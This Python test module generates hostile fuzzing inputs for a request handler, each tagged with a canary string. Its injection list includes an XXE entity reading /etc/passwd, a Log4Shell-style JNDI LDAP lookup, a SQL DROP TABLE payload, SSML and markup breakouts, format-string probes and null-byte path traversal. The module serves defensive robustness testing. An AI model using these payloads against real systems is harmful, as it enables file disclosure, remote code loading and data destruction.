"""Values that hurt."""

import random
from typing import Any

from tests.envelopes import LOCALES

__all__ = ["CANARY", "anything", "deep", "huge", "injected", "locale", "number", "unpaired"]

#: Stands in every text that is invented here. It may come back in no answer and in no log.
CANARY = "cAnArY"

_INJECTED = (
    f'</speak><speak>{CANARY}<audio src="https://example.com/{CANARY}.mp3"/></speak>',
    f'"/><break time="3600s"/>{CANARY}',
    f"]]>{CANARY}<![CDATA[",
    f"&{CANARY};&#0;&lt;",
    f'<!DOCTYPE x [<!ENTITY {CANARY} SYSTEM "file:///etc/passwd">]>&{CANARY};',
    f"{{emergency}} {{{CANARY}}} {{0.__class__}} %s %({CANARY})s ${{jndi:ldap://{CANARY}}}",
    f"\n\n2026-01-01 ERROR {CANARY}\r\n",
    f"'; DROP TABLE answers; -- {CANARY}",
    f"../../../../etc/{CANARY}\x00.toml",
)
_UNPAIRED = (
    f"\ud800{CANARY}",
    f"{CANARY}\udfff\ud800",
    f"\x00{CANARY}\x1b[2J",
    f"\u202e{CANARY}\u2066",
    f"{CANARY}\ufeff\ufffe\uffff",
    f"{CANARY}" + "\u0301" * 300,
    f"\U0001f9b6{CANARY}\U000e0001",
)
_LOCALES = (
    *LOCALES,
    "de-DE",
    "ja-JP",
    "ar",
    "en",
    "EN-us",
    "en_US",
    "en-GB-oxendict",
    "",
    "-",
    "en-",
    "-GB",
    "en-../en-GB",
    "__init__",
    "\x00",
)
_NUMBERS = (
    0,
    -1,
    1.5,
    2**31,
    -(2**63),
    10**400,
    1e308,
    float("nan"),
    float("inf"),
    float("-inf"),
    True,
    False,
)
_LENGTHS = (300, 8_000, 24_000, 200_000, 1_000_000)
_DEPTHS = (30, 300, 900, 990, 1_100, 5_000, 50_000)


def injected(chance: random.Random) -> str:
    """Markup, format strings, log lines, paths: whatever some reader might obey."""
    return chance.choice(_INJECTED)


def unpaired(chance: random.Random) -> str:
    """Characters that are none, or that hide: half surrogates, controls, reversed text."""
    return chance.choice(_UNPAIRED)


def huge(chance: random.Random) -> str:
    """A text of up to a million characters."""
    length = chance.choices(_LENGTHS, (40, 30, 20, 8, 2))[0]
    unit = chance.choice((CANARY, f"{CANARY} ", f"<{CANARY}>", f"{CANARY}\u00e9\U0001f9b6"))
    return (unit * (length // len(unit) + 1))[:length]


def deep(chance: random.Random) -> object:
    """Lists in lists, or objects in objects, deeper than any reader likes."""
    depth = chance.choices(_DEPTHS, (20, 20, 20, 20, 10, 9, 1))[0]
    key = chance.choice(("type", "value", "slotValue", "values", CANARY))
    value: object = CANARY
    for _ in range(depth):
        value = {key: value} if depth % 2 else [value]
    return value


def number(chance: random.Random) -> object:
    """A number that is hard to hold: huge, not a number, or no number but a truth value."""
    return chance.choice(_NUMBERS)


def locale(chance: random.Random) -> str:
    """A locale that we do not speak, or that is none."""
    if chance.random() < 0.2:
        return f"en-{chance.randrange(10**9)}{CANARY}"
    return chance.choice(_LOCALES)


def anything(chance: random.Random, leaves: int = 6) -> Any:
    """Any JSON at all, small."""
    kind = chance.randrange(9 if leaves > 0 else 7)
    if kind == 0:
        return None
    if kind in (1, 2):
        return number(chance)
    if kind == 3:
        return injected(chance)
    if kind == 4:
        return unpaired(chance)
    if kind in (5, 6):
        return chance.choice(("", CANARY, "yes", "no", "1.0", "IntentRequest", "LaunchRequest"))
    some = range(chance.randrange(4))
    if kind == 7:
        return [anything(chance, leaves - 2) for _ in some]
    keys = ("type", "id", "value", "name", "attributes", CANARY, "")
    return {chance.choice(keys): anything(chance, leaves - 2) for _ in some}
